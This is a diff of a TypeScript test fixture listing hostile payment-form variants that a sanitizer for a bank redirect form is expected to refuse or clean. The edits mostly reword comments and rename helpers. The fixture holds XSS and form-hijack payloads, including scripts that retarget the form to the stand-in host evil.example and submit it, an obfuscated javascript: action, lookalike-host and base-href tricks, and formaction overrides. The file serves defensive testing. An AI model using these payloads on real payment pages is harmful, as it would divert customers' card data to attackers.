@@ -1,23 +1,23 @@
 import type { Fields } from '../payments/signature.ts';
 
-/** What a right form would have: the bank's address and the signed fields. */
+/** The parts of a valid form: the bank's address and the signed fields. */
 export type FormParts = { readonly action: string; readonly fields: Fields };
 
 export type HostileForm = {
-  /** The user who gets it. */
+  /** The id of the user who gets this form. */
   readonly id: string;
   readonly name: string;
   /**
-   * `refused`: no form may come of it. `cleaned`: a right form to the right address, with every
-   * field of it, of which everything else is gone.
+   * `refused`: the site must reject the form. `cleaned`: the site must keep its address and all its
+   * fields, and drop everything else.
    */
   readonly outcome: 'refused' | 'cleaned';
   readonly render: (parts: FormParts) => string;
 };
 
-/** Set on the window by whatever of these runs. */
+/** A script of a hostile form that runs sets this property of `window`. */
 export const HOSTILE_MARK = 'hostileFormRan';
-/** Where everything foreign goes. No name server knows it. */
+/** The host of all foreign addresses. It does not resolve. */
 export const HOSTILE_HOST = 'evil.example';
 
 const EVIL = `https://${HOSTILE_HOST}/pay_auth.php`;
@@ -35,108 +35,108 @@ const writeFields = (fields: Fields): string =>
     .join('');
 
 type Changes = {
-  /** As it stands in the document, between double quotes. */
+  /** Written between double quotes, without escaping. */
   readonly action?: string;
   readonly attributes?: string;
   readonly inside?: string;
   readonly before?: string;
-  readonly behind?: string;
+  readonly after?: string;
 };
 
-/** A right form but for the changes. */
-const change =
+/** Renders a valid form with the changes. */
+const modify =
   (changes: Changes | ((parts: FormParts) => Changes)) =>
   (parts: FormParts): string => {
     const changed = typeof changes === 'function' ? changes(parts) : changes;
-    const { before = '', behind = '', inside = '', attributes = 'method="post"' } = changed;
+    const { before = '', after = '', inside = '', attributes = 'method="post"' } = changed;
     const action = changed.action ?? escape(parts.action);
     const start = `<form id="pay" ${attributes} action="${action}">`;
-    return `${before}${start}${writeFields(parts.fields)}${inside}</form>${behind}`;
+    return `${before}${start}${writeFields(parts.fields)}${inside}</form>${after}`;
   };
 
 const table: readonly (readonly [string, HostileForm['outcome'], HostileForm['render']])[] = [
   [
     'scripts before, inside and behind the form',
     'cleaned',
-    change({
+    modify({
       before: SCRIPT,
       inside: `<script>${RUN};document.forms[0].action='${EVIL}'</script>`,
-      behind: `<script>${RUN};pay.action='${EVIL}';pay.submit()</script>`,
+      after: `<script>${RUN};pay.action='${EVIL}';pay.submit()</script>`,
     }),
   ],
   [
     'event handlers on the form, its fields and what stands in it, and another target',
     'cleaned',
-    change({
+    modify({
       attributes: `method="post" target="_top" onsubmit="${RUN}" onformdata="${RUN}"`,
       inside:
         `<input type="hidden" name="A" value="1" onfocus="${RUN}" onchange="${RUN}">` +
         `<img src="x" onerror="${RUN}"><details open ontoggle="${RUN}"></details>`,
     }),
   ],
-  ['a javascript: action', 'refused', change({ action: `javascript:${RUN}` })],
-  ['a data: action', 'refused', change({ action: `data:text/html,${escape(SCRIPT)}` })],
+  ['a javascript: action', 'refused', modify({ action: `javascript:${RUN}` })],
+  ['a data: action', 'refused', modify({ action: `data:text/html,${escape(SCRIPT)}` })],
   [
     'a javascript: action hidden by entities, a line break and a tab',
     'refused',
-    change({ action: `&#10; &#106;ava&#x09;script&colon;${RUN}` }),
+    modify({ action: `&#10; &#106;ava&#x09;script&colon;${RUN}` }),
   ],
-  ['an action without protocol', 'refused', change({ action: `//${HOSTILE_HOST}/pay_auth.php` })],
-  ['an action on a foreign host', 'refused', change({ action: EVIL })],
+  ['an action without protocol', 'refused', modify({ action: `//${HOSTILE_HOST}/pay_auth.php` })],
+  ['an action on a foreign host', 'refused', modify({ action: EVIL })],
   [
     "an action with the bank's host as user name",
     'refused',
-    change({ action: `https://secure.librapay.ro@${HOSTILE_HOST}/` }),
+    modify({ action: `https://secure.librapay.ro@${HOSTILE_HOST}/` }),
   ],
   [
     "an action on the bank's host without TLS",
     'refused',
-    change({ action: 'http://secure.librapay.ro/pay_auth.php' }),
+    modify({ action: 'http://secure.librapay.ro/pay_auth.php' }),
   ],
   [
     'an action on a host that looks like the bank',
     'refused',
-    change({ action: `https://secure.librapay.ro.${HOSTILE_HOST}/pay_auth.php` }),
+    modify({ action: `https://secure.librapay.ro.${HOSTILE_HOST}/pay_auth.php` }),
   ],
   [
     'a <base> that turns the action around',
     'refused',
-    change({ before: `<base href="https://${HOSTILE_HOST}/">`, action: 'pay_auth.php' }),
+    modify({ before: `<base href="https://${HOSTILE_HOST}/">`, action: 'pay_auth.php' }),
   ],
   [
     'two forms, the second foreign',
     'refused',
-    change({ behind: `<form method="post" action="${EVIL}"><input name="A" value="1"></form>` }),
+    modify({ after: `<form method="post" action="${EVIL}"><input name="A" value="1"></form>` }),
   ],
   [
     'a form inside the form',
     'refused',
-    change({ inside: `<form method="post" action="${EVIL}"><input name="A" value="1"></form>` }),
+    modify({ inside: `<form method="post" action="${EVIL}"><input name="A" value="1"></form>` }),
   ],
   [
     'a form that stands only in the document of a frame',
     'refused',
-    (parts) => `<iframe srcdoc="${escape(SCRIPT + change({})(parts))}"></iframe>`,
+    (parts) => `<iframe srcdoc="${escape(SCRIPT + modify({})(parts))}"></iframe>`,
   ],
   [
     'a button with an action of its own',
     'refused',
-    change({ inside: `<button type="submit" formaction="${EVIL}">Plătește</button>` }),
+    modify({ inside: `<button type="submit" formaction="${EVIL}">Plătește</button>` }),
   ],
   [
     'a button elsewhere that belongs to the form and has an action of its own',
     'refused',
-    change({ behind: `<p><input type="submit" form="pay" formaction="javascript:${RUN}"></p>` }),
+    modify({ after: `<p><input type="submit" form="pay" formaction="javascript:${RUN}"></p>` }),
   ],
   [
     'a refresh, objects, a style and pictures from afar',
     'cleaned',
-    change({
+    modify({
       before:
         `<meta http-equiv="refresh" content="0;url=https://${HOSTILE_HOST}/">` +
         `<link rel="stylesheet" href="https://${HOSTILE_HOST}/a.css">` +
         `<style>@import "https://${HOSTILE_HOST}/b.css"</style>`,
-      behind:
+      after:
         `<object data="data:text/html,${escape(SCRIPT)}"></object>` +
         `<embed src="https://${HOSTILE_HOST}/c"><img src="https://${HOSTILE_HOST}/d.gif">` +
         `<iframe src="javascript:parent.${HOSTILE_MARK}=true"></iframe>`,
@@ -145,23 +145,23 @@ const table: readonly (readonly [string, HostileForm['outcome'], HostileForm['re
   [
     'scripts in drawings and formulas',
     'cleaned',
-    change({
+    modify({
       before: `<svg onload="${RUN}"><script>${RUN}</script><animate onbegin="${RUN}" /></svg>`,
-      behind: `<math><mtext>${SCRIPT}</mtext><maction xlink:href="javascript:${RUN}">x</maction></math>`,
+      after: `<math><mtext>${SCRIPT}</mtext><maction xlink:href="javascript:${RUN}">x</maction></math>`,
     }),
   ],
-  ['ten megabytes', 'refused', change({ inside: writeFields({ A: 'a'.repeat(TEN_MEGABYTES) }) })],
+  ['ten megabytes', 'refused', modify({ inside: writeFields({ A: 'a'.repeat(TEN_MEGABYTES) }) })],
   [
     'thousands of fields',
     'refused',
-    change({
+    modify({
       inside: Array.from({ length: MANY_FIELDS }, (_, index) => `<input name=f${index}>`).join(''),
     }),
   ],
   [
     'fields named after parts of every form and object, and entities in names and values',
     'cleaned',
-    change({
+    modify({
       inside:
         ['action', 'method', 'elements', 'constructor', '__proto__']
           .map((name) => `<input type="hidden" name="${name}" value="&quot;&gt;&lt;script&gt;">`)
@@ -171,13 +171,13 @@ const table: readonly (readonly [string, HostileForm['outcome'], HostileForm['re
   [
     'a field that hides the function which submits',
     'refused',
-    change({ inside: '<input type="hidden" name="submit" value="1">' }),
+    modify({ inside: '<input type="hidden" name="submit" value="1">' }),
   ],
-  ['a form that only closes a dialog', 'refused', change({ attributes: 'method="dialog"' })],
+  ['a form that only closes a dialog', 'refused', modify({ attributes: 'method="dialog"' })],
   [
     'a field for files',
     'refused',
-    change({
+    modify({
       attributes: 'method="post" enctype="multipart/form-data"',
       inside: '<input type="file" name="card">',
     }),
